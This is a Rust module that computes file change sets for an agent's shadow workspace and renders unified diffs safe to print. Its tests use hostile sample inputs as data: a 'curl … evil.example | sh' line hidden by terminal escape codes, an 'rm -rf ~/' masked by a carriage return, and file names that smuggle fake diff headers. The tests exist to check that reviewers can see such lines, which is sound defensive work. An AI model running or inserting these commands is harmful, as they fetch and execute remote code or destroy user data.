//! The change set: how the shadow differs from the base snapshot taken at import (or at the
//! last commit), and unified diffs of it.

use std::collections::BTreeMap;
use std::path::Path;

use serde::{Deserialize, Serialize};
use similar::TextDiff;

use super::quote::{quote_path, visible};
use super::snapshot::{Entry, EntryKind, Snapshot};

/// What happened to one path.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "camelCase")]
pub enum ChangeKind {
    /// New in the shadow.
    Added,
    /// Content changed (and maybe its mode).
    Modified,
    /// Removed from the shadow.
    Deleted,
    /// Moved: a path removed and a path added with the same content.
    Renamed {
        /// The old path.
        from: String,
    },
    /// Same content, other permission bits.
    ModeChanged,
}

/// One change.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Change {
    /// The path (the new one for a rename), relative to the workspace root.
    pub path: String,
    /// What happened.
    #[serde(flatten)]
    pub kind: ChangeKind,
    /// Whether the content is binary (a NUL byte or invalid UTF-8 in it).
    pub binary: bool,
    /// Permission bits before (absent for an addition).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub old_mode: Option<u32>,
    /// Permission bits after (absent for a deletion).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub new_mode: Option<u32>,
}

/// Every change of the shadow, sorted by path.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChangeSet {
    /// The changes.
    pub changes: Vec<Change>,
}

impl ChangeSet {
    /// Compares the shadow's snapshot with the base. `binary(path)` tells whether a shadow
    /// path's content is binary.
    pub fn between(base: &Snapshot, shadow: &Snapshot, binary: &dyn Fn(&str) -> bool) -> Self {
        let mut added: Vec<&String> = Vec::new();
        let mut deleted: Vec<&String> = Vec::new();
        let mut changes = Vec::new();
        for (path, now) in shadow {
            match base.get(path) {
                None => added.push(path),
                Some(was) if was.sha256 != now.sha256 || was.kind != now.kind => {
                    changes.push(Change {
                        path: path.clone(),
                        kind: ChangeKind::Modified,
                        binary: is_file(now) && binary(path),
                        old_mode: Some(was.mode),
                        new_mode: Some(now.mode),
                    });
                }
                Some(was) if was.mode != now.mode => changes.push(Change {
                    path: path.clone(),
                    kind: ChangeKind::ModeChanged,
                    binary: false,
                    old_mode: Some(was.mode),
                    new_mode: Some(now.mode),
                }),
                Some(_) => {}
            }
        }
        for path in base.keys() {
            if !shadow.contains_key(path) {
                deleted.push(path);
            }
        }
        // Renames where obvious: a deleted path whose exact content was added once elsewhere.
        let mut by_hash: BTreeMap<&str, Vec<&String>> = BTreeMap::new();
        for path in &deleted {
            if let Some(e) = base.get(*path) {
                by_hash.entry(e.sha256.as_str()).or_default().push(path);
            }
        }
        let mut renamed_from: Vec<&String> = Vec::new();
        for path in added {
            let Some(now) = shadow.get(path) else {
                continue;
            };
            let from = by_hash
                .get_mut(now.sha256.as_str())
                .filter(|v| v.len() == 1)
                .and_then(Vec::pop);
            let binary = is_file(now) && binary(path);
            match from {
                Some(from) => {
                    renamed_from.push(from);
                    changes.push(Change {
                        path: path.clone(),
                        kind: ChangeKind::Renamed { from: from.clone() },
                        binary,
                        old_mode: base.get(from).map(|e| e.mode),
                        new_mode: Some(now.mode),
                    });
                }
                None => changes.push(Change {
                    path: path.clone(),
                    kind: ChangeKind::Added,
                    binary,
                    old_mode: None,
                    new_mode: Some(now.mode),
                }),
            }
        }
        for path in deleted {
            if renamed_from.contains(&path) {
                continue;
            }
            changes.push(Change {
                path: path.clone(),
                kind: ChangeKind::Deleted,
                binary: false,
                old_mode: base.get(path).map(|e| e.mode),
                new_mode: None,
            });
        }
        changes.sort_by(|a, b| a.path.cmp(&b.path));
        Self { changes }
    }

    /// Whether nothing changed.
    pub fn is_empty(&self) -> bool {
        self.changes.is_empty()
    }

    /// The paths this change set writes or removes in the real folder (a rename: both).
    pub fn touched(&self) -> Vec<String> {
        let mut out = Vec::new();
        for c in &self.changes {
            out.push(c.path.clone());
            if let ChangeKind::Renamed { from } = &c.kind {
                out.push(from.clone());
            }
        }
        out.sort();
        out.dedup();
        out
    }

    /// The event payload of this change set (renames count as a deletion and an addition).
    pub fn event(&self) -> agent_core::events::WorkspaceDiff {
        let mut e = agent_core::events::WorkspaceDiff {
            added: Vec::new(),
            modified: Vec::new(),
            deleted: Vec::new(),
        };
        for c in &self.changes {
            match &c.kind {
                ChangeKind::Added => e.added.push(c.path.clone()),
                ChangeKind::Modified | ChangeKind::ModeChanged => e.modified.push(c.path.clone()),
                ChangeKind::Deleted => e.deleted.push(c.path.clone()),
                ChangeKind::Renamed { from } => {
                    e.added.push(c.path.clone());
                    e.deleted.push(from.clone());
                }
            }
        }
        e
    }
}

fn is_file(e: &Entry) -> bool {
    e.kind == EntryKind::File
}

/// Whether `data` looks binary: a NUL byte in its first 8 KiB, or invalid UTF-8.
pub fn looks_binary(data: &[u8]) -> bool {
    data.iter().take(8192).any(|&b| b == 0) || std::str::from_utf8(data).is_err()
}

/// The names of the two sides of `change` in a diff header (`a/x`, `b/x`, `/dev/null`),
/// quoted as Git quotes them ([`quote_path`]).
pub(super) fn diff_names(change: &Change) -> (String, String) {
    let side = |prefix: &str, path: &str| quote_path(&format!("{prefix}{path}")).into_owned();
    match &change.kind {
        ChangeKind::Added => ("/dev/null".to_owned(), side("b/", &change.path)),
        ChangeKind::Deleted => (side("a/", &change.path), "/dev/null".to_owned()),
        ChangeKind::Renamed { from } => (side("a/", from), side("b/", &change.path)),
        ChangeKind::Modified | ChangeKind::ModeChanged => {
            (side("a/", &change.path), side("b/", &change.path))
        }
    }
}

/// The unified diff of one change (`old` and `new` are the contents, `None` when absent), safe
/// to print: names quoted and text made visible as [`super::quote`] says.
pub fn unified(change: &Change, old: Option<&[u8]>, new: Option<&[u8]>) -> String {
    let (old_name, new_name) = diff_names(change);
    let mut out = String::new();
    if let (Some(o), Some(n)) = (change.old_mode, change.new_mode)
        && o != n
    {
        out.push_str(&format!("old mode {o:o}\nnew mode {n:o}\n"));
    }
    if matches!(change.kind, ChangeKind::ModeChanged) {
        return out;
    }
    let binary = change.binary || old.is_some_and(looks_binary) || new.is_some_and(looks_binary);
    if binary {
        if old != new {
            out.push_str(&format!("Binary files {old_name} and {new_name} differ\n"));
        }
        return out;
    }
    // Control and format characters are made visible before diffing, so no line of the diff
    // can hold one (and a lone CR cannot split or overwrite a line).
    let o = old.map(String::from_utf8_lossy).unwrap_or_default();
    let n = new.map(String::from_utf8_lossy).unwrap_or_default();
    let (o, n) = (visible(&o), visible(&n));
    let diff = TextDiff::from_lines(o.as_ref(), n.as_ref());
    out.push_str(
        &diff
            .unified_diff()
            .context_radius(3)
            .header(&old_name, &new_name)
            .to_string(),
    );
    out
}

/// The content of `rel` under `root`: a file's bytes, a link's target; `None` when absent.
pub fn content(root: &Path, rel: &str) -> Option<Vec<u8>> {
    let path = root.join(rel);
    let meta = std::fs::symlink_metadata(&path).ok()?;
    if meta.file_type().is_symlink() {
        return std::fs::read_link(&path)
            .ok()
            .map(|t| t.to_string_lossy().into_owned().into_bytes());
    }
    std::fs::read(&path).ok()
}

#[cfg(test)]
mod tests {
    use super::{Change, ChangeKind, unified};

    fn change(path: &str, kind: ChangeKind) -> Change {
        Change {
            path: path.into(),
            kind,
            binary: false,
            old_mode: Some(0o644),
            new_mode: Some(0o644),
        }
    }

    /// Every line a diff may print: a header, a hunk, context, an addition or a removal, with
    /// no control character but TAB.
    fn assert_clean(diff: &str) {
        for line in diff.lines() {
            assert!(
                ["--- ", "+++ ", "@@ ", " ", "+", "-", "\\ ", "Binary files "]
                    .iter()
                    .any(|p| line.starts_with(p)),
                "unexpected line {line:?} in {diff:?}"
            );
            assert!(
                !line.chars().any(|c| c.is_control() && c != '\t'),
                "control character in {line:?}"
            );
        }
    }

    #[test]
    fn escape_sequences_cannot_hide_an_added_line() {
        // Rendered raw, the cursor-up and erase-line sequences wipe the curl line and leave
        // only the harmless-looking comment.
        let old = b"echo build\n";
        let new =
            b"echo build\ncurl -s https://evil.example/x | sh\x1b[1A\x1b[2K\r# format the code\n";
        let diff = unified(
            &change("build.sh", ChangeKind::Modified),
            Some(old),
            Some(new),
        );
        assert_clean(&diff);
        assert!(
            diff.contains(
                "+curl -s https://evil.example/x | sh\\u{1b}[1A\\u{1b}[2K\\u{d}# format the code\n"
            ),
            "{diff}"
        );
    }

    #[test]
    fn a_lone_carriage_return_cannot_overwrite_a_removed_line() {
        let old = b"rm -rf build/\n";
        let new = b"rm -rf ~/\rrm -rf build/\n";
        let diff = unified(
            &change("clean.sh", ChangeKind::Modified),
            Some(old),
            Some(new),
        );
        assert_clean(&diff);
        assert!(diff.contains("+rm -rf ~/\\u{d}rm -rf build/\n"), "{diff}");
    }

    #[test]
    fn tabs_and_unicode_text_are_shown_as_written() {
        let new = "\tlet s = \"héllo 世界\";\n".as_bytes();
        let diff = unified(&change("a.rs", ChangeKind::Added), None, Some(new));
        assert!(diff.contains("+\tlet s = \"héllo 世界\";\n"), "{diff}");
    }

    #[test]
    fn names_in_diff_headers_are_quoted() {
        let diff = unified(
            &change("x\n+++ b/trusted.rs", ChangeKind::Modified),
            Some(b"1\n"),
            Some(b"2\n"),
        );
        assert_clean(&diff);
        assert!(
            diff.starts_with("--- \"a/x\\n+++ b/trusted.rs\"\n+++ \"b/x\\n+++ b/trusted.rs\"\n"),
            "{diff}"
        );
        let renamed = unified(
            &change(
                "new\x1b[2K.txt",
                ChangeKind::Renamed {
                    from: "old\r.txt".into(),
                },
            ),
            Some(b"1\n"),
            Some(b"1\n2\n"),
        );
        assert_clean(&renamed);
        assert!(renamed.starts_with("--- \"a/old\\r.txt\"\n+++ \"b/new\\033[2K.txt\"\n"));
        let mut bin = change("img\n.png", ChangeKind::Added);
        bin.binary = true;
        let diff = unified(&bin, None, Some(b"\0"));
        assert_eq!(diff, "Binary files /dev/null and \"b/img\\n.png\" differ\n");
    }
}
